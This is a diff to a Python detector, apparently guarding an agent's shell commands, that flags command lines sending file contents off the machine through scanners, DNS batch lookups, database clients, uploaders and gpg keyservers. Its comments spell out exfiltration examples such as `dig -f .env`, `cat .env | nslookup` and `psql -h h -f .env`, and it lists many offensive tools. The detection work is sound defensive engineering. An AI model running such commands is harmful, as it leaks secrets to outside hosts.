@@ -125,8 +125,9 @@ def _curl_reading(keys: frozenset[str], operands: tuple[str, ...], explicit_meth
         return True  # `-X DELETE`, `-d x` (request=POST) ...
     if any(op.lower().startswith("telnet://") for op in operands):
         return True
-    if any(k.startswith("header=@") for k in keys):
-        return True  # `-H @file`: the file's lines are sent as headers
+    if any(k.startswith(("header=@", "url=@")) for k in keys):
+        return True  # `-H @file`: the file's lines are sent as headers; red team: `--url @file`, its URLs
+
     body = [k for k in keys if k.partition("=")[0] in _CURL_BODY]
     if body and "get" in keys:
         # `curl -G --data-urlencode q=x url`: the data is the query of a GET -- unless a file is read into it.
@@ -283,7 +284,7 @@ def _httpie_item_sends(item: str) -> bool | None:
         if at > 0 and (best is None or (at, -len(sep)) < (best[0], best[1])):
             best = (at, -len(sep), sep)
     if best is None:
-        return None
+        return True if item[:1] == "@" else None  # red team: `@file`, a raw body read from a file
     return best[2] not in ("==", ":")
 
 
@@ -627,6 +628,8 @@ def _telnet(view: tuple[str, ...]) -> bool:
 _SENDERS = frozenset(
     {"ncftpput", "lftp", "ftp", "tftp", "smbclient", "ssh-copy-id", "sendmail", "msmtp", "swaks", "ssmtp"}
     | {"wput"}  # red team: wget's counterpart, an upload to an FTP address
+    # red team: a gist, a Tor share, an XMPP message, a Slack post
+    | {"gist", "onionshare-cli", "onionshare", "sendxmpp", "slackcat"}
 )
 _MAILERS = frozenset({"mail", "mailx", "mutt", "neomutt", "s-nail"})
 _MAIL_VALUES = frozenset("-s -c -b -a -r -S -q -F -A -e -i -H -f -u".split())
@@ -765,6 +768,172 @@ def _lwp_request(view: tuple[str, ...]) -> bool:
     return False
 
 
+# red team: programs that contact the names or addresses they read from a file or from their input (a batch of
+# lookups, a target list, a wordlist fuzzed into a URL): the file's content leaves as DNS questions, probes or
+# requests (`dig -f .env`, `nmap -iL .env`, `cat .env | nslookup`, `ffuf -w .env -u https://h/FUZZ`). A lookup of
+# a name the command spells (`dig example.com`, `nslookup github.com`) stays as it was.
+# Per program: the options whose value is such a file (an exact word, its `--opt=value` form, and for a
+# one-letter option the value glued to it: `-f.env`); any input fed with data counts (`-f -`, `nslookup < f`).
+_LIST_FILES: dict[str, frozenset[str]] = {
+    verb: frozenset(options.split())
+    for verbs, options in (
+        ("dig kdig", "-f"),  # a batch file of queries
+        ("drill", "-f"),  # a packet read from a file, sent
+        ("nmap", "-iL --iL --resume --script-args-file --iR"),
+        ("masscan", "-iL --includefile -c --conf --resume"),
+        ("fping", "-f --file"),
+        ("ssh-keyscan", "-f"),
+        ("hping3", "-E --file"),  # the file's bytes are the packets' data
+        ("mtr", "-F --filename"),
+        ("ldapsearch", "-f -y"),  # search filters read from a file; a password file sent to the server
+        ("ldapwhoami ldapcompare", "-y -f"),  # (ldapadd, ldapmodify, ldapdelete: publishers, families)
+        ("aria2c", "-i --input-file"),
+        ("yt-dlp youtube-dl", "-a --batch-file"),
+        ("gallery-dl", "-i --input-file -I --input-file-comment --input-file-delete"),
+        ("httrack", "-%L --list"),
+        ("iperf3 iperf", "-F --file"),  # a file's bytes sent as the test's data
+    )
+    for verb in verbs.split()
+}
+_NAME_TOOLS = (
+    "dig kdig drill host nslookup whois nmap masscan fping ssh-keyscan hping3 mtr adnshost"
+).split()
+
+
+def _names_file(view: tuple[str, ...]) -> bool:
+    """A program of :data:`_LIST_FILES` given one of its list files, or fed data on its input."""
+    if _FED.get() == DATA:
+        return True
+    options = _LIST_FILES.get(view[0])
+    if options is None:
+        return False
+    for w in view[1:]:
+        if w[:1] != "-":
+            continue
+        if w in options or w.partition("=")[0] in options:
+            return True
+        if len(w) > 2 and w[1] != "-" and w[:2] in options:
+            return True  # `-f.env`: the value glued to a one-letter option
+    return False
+
+
+# red team: bulk reconnaissance, scanning and fuzzing tools -- what they are given is sent to many names or many
+# paths of a host, from files and their input as often as from their words (`httpx -l .env`, `dnsx -l .env`,
+# `massdns -r r.txt .env`, `nuclei -l .env`, `gobuster dns -w .env`, `hydra -L .env`): a run is an external
+# effect unless every address it names is this machine's loopback (a test of one's own server) and it reads no
+# list (fail closed: an option that may name one, a word that is not an address, an input fed with data).
+_SCANNERS = frozenset(
+    (
+        "httpx dnsx massdns zdns subfinder nuclei ffuf naabu tlsx katana httprobe hakrevdns puredns shuffledns"
+        " gau waybackurls aquatone gowitness meg amass gobuster wfuzz feroxbuster dirb dirsearch hydra medusa"
+        " ncrack sqlmap nikto rustscan zmap zgrab2 zgrab testssl.sh testssl sslscan sslyze dnsrecon dnsenum"
+        " fierce assetfinder findomain chaos uncover interactsh-client notify subjack wpscan whatweb wafw00f"
+        " arjun paramspider gospider hakrawler cariddi dalfox crlfuzz dnsgen-resolve alterx-resolve unimap"
+        " smap sx dnsvalidator dnsprobe subzy nuclei-cli wapiti skipfish zap-cli"
+    ).split()
+)
+_SCANNER_QUIET = frozenset({"-h", "--help", "-help", "-V", "--version", "-version"})
+# Options whose value is not a target (a count, a rate, a method, a header), or a wordlist sent only to the
+# addresses the line names (`ffuf -w words.txt -u http://localhost:8000/FUZZ`; with a name that is not an
+# address, `-d example.com`, the line asks): the rest may name a list of targets.
+_SCANNER_PLAIN = frozenset(
+    "-t -T -c -rate -rl -rate-limit --rate -timeout --timeout -threads --threads -retries --retries -X -x"
+    " -method --method -H -header --header -mc -fc -ms -fs -o -output --output -json -silent -v -s -p"
+    " -w --wordlist -wordlist".split()
+)
+
+
+def _scanner_word(w: str, nxt: str, addresses: list[str]) -> bool | None:
+    """One word of a scanner's line (``nxt`` the one after it): True when it may name a list (fail closed), None
+    when the next word is its value, else False; an address it spells is kept in ``addresses``."""
+    if w[:1] != "-":
+        addresses.append(w)
+        return "://" not in w  # a bare name or a file of names (`massdns .env`, `dnsx example.com`)
+    name, eq, value = w.partition("=")
+    value = value if eq else nxt
+    if "://" in value:
+        addresses.append(value)  # `-u http://localhost:8000/`, a proxy's `-x http://h:8080`: an address
+        return False if eq else None
+    if name in _SCANNER_PLAIN:
+        return False if eq else None
+    return True  # an option that may take a list file (`-l`, `-iL`, `-dL`, `--list=.env` ...)
+
+
+def _scanner(view: tuple[str, ...]) -> bool:
+    if _FED.get() == DATA:
+        return True
+    words = view[1:]
+    if words and all(w in _SCANNER_QUIET for w in words):
+        return False
+    addresses: list[str] = []
+    value_next = False
+    for k, w in enumerate(words):
+        if value_next:
+            value_next = False
+            continue
+        read = _scanner_word(w, words[k + 1] if k + 1 < len(words) else "", addresses)
+        if read:
+            return True
+        value_next = read is None
+    return not addresses or not all(_loopback(a) for a in addresses)
+
+
+def _always_unless_help(view: tuple[str, ...]) -> bool:
+    """nsupdate/knsupdate change a zone's records (read from a file or the input: fail closed, every run)."""
+    return not (len(view) == 2 and view[1] in _ONLY_ABOUT)
+
+
+def _logger(view: tuple[str, ...]) -> bool:
+    """logger to another machine's syslog (``-n HOST``, ``--server``) with a file's lines (``-f``) or its input."""
+    remote = any(w.startswith("-n") or w.startswith("--serv") for w in view[1:])
+    read = _FED.get() == DATA or any(w.startswith(("-f", "--file")) for w in view[1:])
+    return remote and read
+
+
+# red team: a database client running a file (``psql -h h -f .env``, ``mongosh mongodb://h --file .env``,
+# ``sqlcmd -S h -i .env``): the file's content goes to the server -- unless every server named is this machine's
+# loopback; none named is the local socket or a local default, as it was.
+_DB_FILES: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
+    # (file options, host options); a `scheme://` or `host=` word names a server too
+    "psql": (("-f", "--file"), ("-h", "--host")),
+    "mongosh": (("-f", "--file"), ("--host",)),
+    "mongo": (("-f", "--file"), ("--host",)),
+    "sqlcmd": (("-i", "--input-file"), ("-S", "--server")),
+    "clickhouse-client": (("--queries-file",), ("-h", "--host")),
+}
+
+
+def _db_file(view: tuple[str, ...]) -> bool:
+    files, hosts = _DB_FILES[view[0]]
+    runs_file = _FED.get() == DATA or any(w.partition("=")[0] in files or w[:2] in files for w in view[1:])
+    if not runs_file:
+        return False
+    servers: list[str] = []
+    for k, w in enumerate(view[1:], 1):
+        name, eq, value = w.partition("=")
+        if name in hosts:
+            servers.append(value if eq else (view[k + 1] if k + 1 < len(view) else ""))
+        elif w[:2] in hosts and len(w) > 2 and w[1] != "-":
+            servers.append(w[2:])
+        elif "://" in w:
+            servers.append(w)
+        elif "host=" in w:
+            servers.append((w.partition("host=")[2].split() or [""])[0])  # a conninfo string
+    return any(not _loopback(h if "://" in h else "x://" + h) for h in servers)
+
+
+def _gpg(view: tuple[str, ...]) -> bool:
+    """gpg sending keys to a keyserver (``--send-keys``, ``--send-key``; gpg takes any unique abbreviation, and
+    refuses an ambiguous one: ``--send`` counts, fail closed). Receiving or searching sends the key ids the
+    command spells, a lookup (words built from captured data are read by :func:`uploads_in`)."""
+    return any(w.startswith("--send") and not w.startswith("--sender") for w in view[1:])
+
+
+def _curlie(view: tuple[str, ...]) -> bool:
+    """curlie: curl's options (``-d @.env``, ``-T f``, ``-X PUT``) with httpie's items (``k=v``, ``@file``)."""
+    return _curl(("curl", *view[1:])) or _httpie(view)
+
+
 _MORE_PROBES = (
     "resolvectl systemd-resolve kdig delv dog doggo traceroute traceroute6 tcptraceroute tracepath"
     " tracepath6 mtr fping hping3 nping arping ntpdate sntp chronyd nmap masscan"
@@ -808,7 +977,7 @@ _READERS = {
     "websocat": _websocket,
     "wscat": _websocket,
     "grpcurl": _grpcurl,
-    "curlie": _httpie,
+    "curlie": _curlie,
     "openssl": _openssl,
     "telnet": _telnet,
     # Resolvers and probes: nothing of their own is sent, but words a pipe hands them (`xargs dig`) are.
@@ -819,6 +988,17 @@ _READERS = {
     **dict.fromkeys(_MORE_PROBES, _sends_nothing),
     **dict.fromkeys(_OPENERS, _sends_nothing),
     **dict.fromkeys(_DOWNLOADERS, _sends_nothing),
+    # red team: names, addresses and packets read from a file or the input (_names_file), scanners
+    # (_scanner), keys sent to a keyserver (_gpg)
+    **dict.fromkeys((*_NAME_TOOLS, *_LIST_FILES), _names_file),
+    **dict.fromkeys(_SCANNERS, _scanner),
+    "gpg": _gpg,
+    "gpg2": _gpg,
+    # red team: DNS updates, remote syslog, database clients running a file on a server, more senders
+    "nsupdate": _always_unless_help,
+    "knsupdate": _always_unless_help,
+    "logger": _logger,
+    **dict.fromkeys(_DB_FILES, _db_file),
     **dict.fromkeys(_LOAD_TESTERS, _load_test),
     "vegeta": _vegeta,
     "POST": _lwp_writes,
